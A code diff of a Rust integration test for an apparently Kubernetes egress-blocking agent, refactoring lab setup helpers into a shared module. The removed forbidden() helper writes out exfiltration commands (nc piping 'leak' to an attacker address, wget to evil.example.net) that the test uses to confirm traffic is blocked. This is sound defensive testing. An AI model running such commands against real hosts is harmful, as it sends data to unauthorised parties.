@@ -4,73 +4,13 @@
 use std::time::Duration;
 
 use anyhow::{Result, bail, ensure};
-use weir_tests::agent::{Agent, AgentSpec};
+use weir_tests::agent::Agent;
 use weir_tests::exec;
-use weir_tests::lab::{Lab, addresses};
-use weir_tests::node::{Cni, ContainerSpec, Image, Node, Options, Pod, PodSpec};
-use weir_tests::profile::Profile;
-use weir_tests::programs::{self, Program};
+use weir_tests::lab::addresses;
+use weir_tests::node::{Cni, Node, Options, PodSpec};
+use weir_tests::world::{World, files_allowed, forbidden};
 
 const LIMIT: Duration = Duration::from_secs(30);
-/// Where nobody may send.
-const FORBIDDEN_PORT: u16 = 8443;
-
-/// A lab with a node, and the images that its pods use.
-struct World {
-    lab: Lab,
-    node: Node,
-    job: Image,
-    barrier: Image,
-}
-
-impl World {
-    fn new(options: &Options) -> Result<Self> {
-        let lab = Lab::new()?;
-        lab.attacker.listen(FORBIDDEN_PORT)?;
-        let node = Node::start(&lab, options)?;
-        let job = Image::busybox("job")
-            .program(Program::StaticClient.path()?, "/bin/client")
-            .program(Program::Probe.path()?, "/bin/probe")
-            .program("/usr/bin/curl", "/bin/curl");
-        let barrier = Image::busybox("weir-initc")
-            .program(programs::target_folder()?.join("weir-initc"), "/bin/weir-initc");
-        node.import(&job)?;
-        node.import(&barrier)?;
-        Ok(Self { lab, node, job, barrier })
-    }
-
-    fn barrier(&self, pod: &PodSpec, deadline: &str) -> ContainerSpec {
-        ContainerSpec::new("weir-initc", &self.barrier)
-            .command(&["/bin/weir-initc"])
-            .env("WEIR_POD_UID", &pod.uid)
-            .env("WEIR_DEADLINE", deadline)
-    }
-
-    /// A pod as the kubelet starts it: the barrier to its end, before anything else.
-    fn pod(&self, spec: PodSpec) -> Result<Pod> {
-        let barrier = self.barrier(&spec, "20s");
-        let pod = self.node.run_pod(spec)?;
-        let barrier = pod.start(barrier)?;
-        let code = barrier.wait(LIMIT)?;
-        ensure!(code == 0, "the barrier: {}", barrier.logs()?);
-        Ok(pod)
-    }
-}
-
-/// Allows the lab's file server by its name.
-fn files_allowed() -> AgentSpec {
-    let profile = Profile::deny_all().domains_at(&["files.example.com"], &["80"]);
-    AgentSpec::default().namespace("ci", &profile.text())
-}
-
-/// What every job tries first.
-fn forbidden() -> String {
-    let (v4, v6) = (addresses::ATTACKER.v4, addresses::ATTACKER.v6);
-    format!(
-        "echo leak | nc -w 1 {v4} {FORBIDDEN_PORT}; echo leak | nc -w 1 {v6} {FORBIDDEN_PORT}; \
-         wget -T 2 -q -O - http://evil.example.net/; true"
-    )
-}
 
 fn kubelets_order(options: &Options) -> Result<()> {
     let world = World::new(options)?;
@@ -78,7 +18,7 @@ fn kubelets_order(options: &Options) -> Result<()> {
     let watch = world.lab.watch(world.lab.attacker.host())?;
     let pod = world.pod(PodSpec::new("job"))?;
     let script = format!("{}; curl -sS http://files.example.com/", forbidden());
-    let said = pod.start(ContainerSpec::new("build", &world.job).shell(&script))?.expect(0)?;
+    let said = world.run(&pod, &script)?;
     ensure!(said.contains("hello from"), "{said}");
     let seen = watch.take()?;
     ensure!(seen.is_empty(), "the attacker saw {seen:?}");
